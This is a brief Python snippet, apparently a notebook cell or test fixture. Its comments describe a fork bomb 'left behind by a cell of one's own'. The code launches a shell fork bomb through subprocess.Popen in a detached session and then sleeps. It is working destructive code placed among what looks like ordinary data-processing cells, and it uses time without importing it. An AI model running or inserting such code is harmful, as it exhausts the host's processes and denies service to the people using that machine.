# tries: a fork bomb in the shell, left behind by a cell of one's own
# copies: 2
# %% after to_channels_first
import subprocess

subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
time.sleep(1)
